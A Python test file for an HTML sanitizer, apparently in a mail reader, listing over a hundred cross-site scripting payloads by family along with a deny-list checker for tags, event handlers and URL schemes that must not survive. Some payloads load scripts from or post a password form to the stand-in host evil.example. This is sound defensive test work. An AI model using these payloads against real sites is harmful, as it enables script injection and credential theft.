"""Payloads that try to run code, load files, or draw over the page: each must lose its sting.

All are written for these tests; they follow the families known from mail readers: tags with
handlers, dangerous schemes, CSS, broken nesting, foreign content, encodings, mutation.
"""

from html.parser import HTMLParser

TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script\x20>",
    "<script/xss src=data:,alert(1)></script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<object type='text/html' data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf' allowscriptaccess=always>",
    "<applet code='x.class' archive='http://evil.example/x.jar'></applet>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<form action='http://evil.example/'><input name=password><button>go</button></form>",
    "<button formaction='javascript:alert(1)'>go</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<video><source onerror='alert(1)'></video>",
    "<video poster='javascript:alert(1)'></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<portal src='https://evil.example/'></portal>",
    "<dialog open onclose=alert(1)>x</dialog>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x:x OnErRoR=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x one\x00rror=alert(1)>",
    '<img """><img src=x onerror=alert(1)>">',
    "<img src='x' alt='`><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>text</body>",
    "<body background='javascript:alert(1)'>text</body>",
    "<div onmouseover='alert(1)'>x</div>",
    "<a href='https://ok.example' onclick=alert(1)>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<p onpointerrawupdate=alert(1) onanimationstart=alert(2)>x</p>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<td onwheel=alert(1)>x",
    "<font color='red' onbeforecopy=alert(1)>x</font>",
    "<b\x0confocus=alert(1) tabindex=1>x</b>",
]
LINKS = [
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='DATA:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<area href='javascript:alert(1)' shape=default>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>",
    "<img srcset='https://evil.example/t.gif 1x' src=x>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
]
STYLES = [
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background-image:url(http://evil.example/t.gif)'>x</div>",
    "<div style='background-color:url(http://evil.example/t.gif)'>x</div>",
    "<div style='list-style:url(http://evil.example/t.gif)'>x</div>",
    "<div style='b\\61 ckground:u\\72l(http://evil.example/t.gif)'>x</div>",
    "<div style='color:u/**/rl(http://evil.example/)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='width:exp/* */ression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(http://evil.example/x.xml#a)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='display:none'>hidden</div>",
    "<div style='opacity:0;z-index:9999;transform:scale(9)'>x</div>",
    "<div style='font-family:&quot;;background:url(http://evil.example)&quot;'>x</div>",
    "<div style='color:image-set(\"http://evil.example/t.gif\" 1x)'>x</div>",
    "<style>body{background:url(http://evil.example/t.gif)}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<div class='sign-in-overlay' id='csrf_token'>x</div>",
]
FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<v:vmlframe src='http://evil.example/x.vml' onload='alert(1)'></v:vmlframe>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<table><td><style></table><img src=x onerror=alert(1)></style>",
    "<p>" * 2000 + "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)" + " " * 5000 + ">",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<script>alert(1)</script>",
]

ATTACKS = TAGS + HANDLERS + LINKS + STYLES + FOREIGN

FORBIDDEN = (
    "script style svg math form iframe object embed applet base link meta input button select"
    " textarea video audio template frame frameset marquee details dialog area body title xmp"
)

FORBIDDEN_TAGS = set(FORBIDDEN.split())


class Survivors(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def stings(html: str) -> list[str]:
    seen = Survivors(html)
    found = [tag for tag in seen.tags if tag in FORBIDDEN_TAGS]
    for name, value in seen.attributes:
        lowered = "".join(value.lower().split())
        dangerous = ("javascript:", "vbscript:", "data:", "blob:", "file:", "url(", "expression(")
        if name.startswith("on") or any(word in lowered for word in dangerous):
            found.append(f"{name}={value}")
        if name in ("id", "class", "srcset", "background", "xlink:href", "formaction"):
            found.append(name)
        if name == "style" and any(p in lowered for p in ("position", "display", "opacity")):
            found.append(f"{name}={value}")
    return found
